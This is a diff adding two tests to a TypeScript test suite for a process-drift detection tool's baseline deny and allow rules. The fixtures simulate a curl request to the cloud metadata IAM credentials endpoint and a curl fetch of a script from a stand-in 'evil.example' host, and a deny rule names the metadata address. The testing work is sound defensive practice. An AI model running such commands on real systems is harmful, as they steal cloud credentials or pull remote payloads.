@@ -2,7 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import t from 'tap';
 import { EdgeFilter } from '../../agent/filter/edge-filter.js';
-import { DIGEST, MIN, T0, WEB, exec, fixture, net } from './helpers.js';
+import { DIGEST, MIN, T0, WEB, deviationList, exec, fixture, net } from './helpers.js';
 
 const HOUR = 60 * MIN;
 
@@ -65,6 +65,54 @@ spec:
   f.feed(...probes.filter((o) => !sent.includes(o)));
   t.equal(f.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n, before, 'what the edge dropped raises nothing centrally');
   t.equal(sent.length, 3, 'sh in steady state, ncat and port 25 go to the collector');
+});
+
+t.test('while learning, a deny rule with args fires even right after a harmless run of the same exe', async (t) => {
+  const dir = t.testdir({
+    'deny.yaml': `apiVersion: driftwatch.dev/v1
+kind: Baseline
+metadata: { name: imds }
+spec:
+  selector: { namespace: shop }
+  deny:
+    processes: [{ path: /usr/bin/curl, args: ["*169.254.169.254*"] }]
+`,
+  });
+  const f = await fixture({ baselinesDir: dir });
+  t.teardown(() => f.close());
+  const filter = new EdgeFilter();
+  const viaEdge = (...obs: Parameters<typeof f.feed>): void => f.feed(...obs.filter((o) => filter.shouldSend(o)));
+  viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
+  filter.replaceAll(f.engine.edgeBaselines([WEB]));
+  t.equal(f.engine.edgeBaselines([WEB])[0]!.phase, 'learning');
+  t.same(f.engine.edgeBaselines([WEB])[0]!.alwaysSend, ['/usr/bin/curl']);
+  viaEdge(
+    exec('/usr/bin/curl', { time: T0 + 1000, args: '-s https://example.com/' }),
+    exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
+  );
+  t.same(deviationList(f), ['denied p|/usr/bin/curl critical open']);
+});
+
+t.test('under replace, an allow rule with args sees every run of its exe while learning', async (t) => {
+  const dir = t.testdir({
+    'web.yaml': `apiVersion: driftwatch.dev/v1
+kind: Baseline
+metadata: { name: web }
+spec:
+  selector: { namespace: shop, workload: web }
+  mode: replace
+  allow:
+    processes: [{ path: /usr/sbin/nginx }, { path: /usr/bin/curl, args: ["-s http://localhost:*/healthz"] }]
+`,
+  });
+  const f = await fixture({ baselinesDir: dir });
+  t.teardown(() => f.close());
+  const filter = new EdgeFilter();
+  const viaEdge = (...obs: Parameters<typeof f.feed>): void => f.feed(...obs.filter((o) => filter.shouldSend(o)));
+  viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
+  filter.replaceAll(f.engine.edgeBaselines([WEB]));
+  viaEdge(exec('/usr/bin/curl', { time: T0 + 1000, args: '-s http://localhost:8080/healthz' }), exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://evil.example/x.sh' }));
+  t.same(deviationList(f), ['process p|/usr/bin/curl high open']);
 });
 
 t.test('start and close are idempotent', async (t) => {
